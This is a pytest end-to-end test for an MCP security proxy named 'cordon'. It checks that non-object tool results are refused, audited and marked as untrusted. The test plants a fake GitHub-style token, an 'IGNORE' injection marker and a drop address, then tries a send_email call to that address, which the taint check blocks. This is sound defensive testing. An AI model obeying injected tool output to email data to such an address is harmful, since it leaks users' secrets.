"""A ``tools/call`` result that is not a JSON object (MCP requires one), through the real
``cordon run`` in front of a raw server (``tests/servers/nonobject.py``) and the official SDK
client, in each content mode. A bare string or an array went out as sent in every mode (warn
mode's masking and marking and block mode's threshold read an object's content): now the
client gets a JSON-RPC error naming only the kind of value, the refusal is audited, and the
value is recorded as untrusted output, so a send to the address in it is refused (taint)."""

from __future__ import annotations

import json
import sys

import pytest
from mcp import Client
from mcp.shared.exceptions import MCPError

from tests.conftest import ROOT, Harness, text_of

pytestmark = [pytest.mark.anyio, pytest.mark.e2e]

SERVER = ROOT / "tests" / "servers" / "nonobject.py"
KEY = "ghp_" + "4fG7hJ2kL9mN3pQ6rS8tV1wX5yZ0aB2cD4eF"
ADDRESS = "drop@str-mail.example"


@pytest.mark.parametrize("mode", ["monitor", "warn", "block"])
async def test_a_result_that_is_not_an_object_is_refused_recorded_and_audited(
    harness: Harness, mode: str
) -> None:
    box = harness.tmp / "nonobj"
    box.mkdir()
    params = harness.cordon(
        [sys.executable, str(SERVER)], extra=["--content", mode], env={"NONOBJ_DIR": str(box)}
    )
    async with Client(params, mode="legacy") as client:
        await client.list_tools()
        for tool, kind in (("str_result", "a string"), ("list_result", "an array")):
            with pytest.raises(MCPError) as refused:
                await client.call_tool(tool, {})
            said = f"{refused.value} {getattr(refused.value, 'error', '')}"
            assert "result is not a JSON object" in said and kind in said, said
            assert KEY not in said and ADDRESS not in said and "IGNORE" not in said, said
        sent = await client.call_tool("send_email", {"to": ADDRESS, "body": "the list"})
        assert sent.is_error and "taint.seen_in_output" in text_of(sent), text_of(sent)
    calls = [json.loads(x) for x in (box / "calls.jsonl").read_text().split()]
    assert calls == ["str_result", "list_result"]  # the send never reached the server
    refused_records = harness.records("frame_refused")
    assert [(r["reason"], r["tool"]) for r in refused_records] == [
        ("result is not an object", "str_result"),
        ("result is not an object", "list_result"),
    ], refused_records
    assert KEY not in harness.audit.read_text("utf-8")
